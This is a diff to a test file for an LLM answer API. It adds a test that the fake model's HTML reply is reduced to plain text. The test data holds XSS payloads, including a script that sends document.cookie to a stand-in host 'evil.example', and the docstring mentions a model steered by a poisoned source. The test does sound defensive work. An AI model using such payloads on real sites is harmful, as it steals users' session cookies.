@@ -110,6 +110,19 @@ def test_knowledge_answer_comes_from_the_provider_with_usage_and_cost(
     assert usage.cost_usd == Decimal("0.720000")  # 1.2 * 0.5 + 0.08 * 1.5
 
 
+def test_markup_in_the_model_answer_never_reaches_the_channel(
+    api_client: Client, api_key_a: IssuedKey, provider: LlmProviderConfig, llm: FakeLLM
+) -> None:
+    """A model steered by a poisoned source (or a hostile endpoint) answers in HTML: reply.text is plain."""
+    llm.reply = (
+        "Sie haben <b>14 Tage</b> Widerrufsrecht [1].<script>fetch('//evil.example/'+document.cookie)"
+        "</script>"
+        "<img src=x onerror=alert(1)> &lt;svg onload=alert(2)&gt;"
+    )
+    reply = ask(api_client, api_key_a, "Wie lange kann ich zurückgeben?")
+    assert reply["text"] == "Sie haben 14 Tage Widerrufsrecht [1]. "
+
+
 def test_repeated_question_is_answered_from_the_cache(
     api_client: Client, api_key_a: IssuedKey, provider: LlmProviderConfig, llm: FakeLLM
 ) -> None:
